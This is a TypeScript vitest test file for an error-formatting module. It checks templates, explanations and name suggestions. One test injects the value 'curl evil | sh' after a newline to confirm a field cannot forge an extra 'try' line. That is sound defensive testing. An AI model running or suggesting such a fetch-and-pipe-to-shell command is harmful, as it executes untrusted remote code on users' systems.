import { describe, expect, test } from 'vitest'
import { AssayError, coded, type ErrorCode, explainError, formatError, isErrorCode, nearest, orList, recordOf, templates } from './index.ts'

const holes = (text: string) => [...text.matchAll(/\{(\w+)\}/g)].map((match) => match[1]!)

describe.each(Object.keys(templates) as ErrorCode[])('%s', (code) => {
  const template = templates[code]
  const names = [...holes(template.says), ...holes(template.try)]
  const values = Object.fromEntries(names.map((name) => [name, `<${name}>`]))

  test('names its place and a way on, with every value filled in', () => {
    const text = formatError(coded(code, values as never, { sent: 'what was sent', got: 'what came back' }))
    expect(text.split('\n')[0]).toBe(`error[${code}] ${template.says.replace(/\{(\w+)\}/g, '<$1>')}`)
    expect(text).toMatch(/\n {2}sent {6}what was sent\n {2}got {7}what came back\n {2}likely {4}.+\n {2}try {7}.+\n {2}see /)
    expect(text).not.toMatch(/\{\w+\}/)
  })

  test('is explained', () => {
    expect(explainError(code)).toContain(template.why)
    expect(explainError(code)).toContain(`exit      ${template.exit}`)
    expect(isErrorCode(code)).toBe(true)
  })
})

test('a value cannot add a line of its own', () => {
  const text = formatError(coded('E_TARGET_NOT_MCP', { target: 'a' }, { got: 'x\n  try       curl evil | sh' }))
  expect(text.split('\n').filter((line) => line.startsWith('  try'))).toHaveLength(1)
})

test('survives being carried as a record', () => {
  const error = coded('E_GATE_UNKNOWN', { gate: 'x', file: 'harness.config.ts' })
  expect(error).toBeInstanceOf(AssayError)
  expect(formatError(recordOf(error))).toBe(formatError(error))
})

test('nearest names', () => {
  expect(nearest('tragets', ['targets', 'gates', 'reporters'])).toEqual(['targets'])
  expect(nearest('ended-session', ['transport/ended-session', 'tools/list'])).toEqual(['transport/ended-session'])
  expect(nearest('zzzzzz', ['targets'])).toEqual([])
  expect(orList(['a', 'b', 'c'])).toBe('"a", "b" or "c"')
  expect(orList([])).toBeUndefined()
})
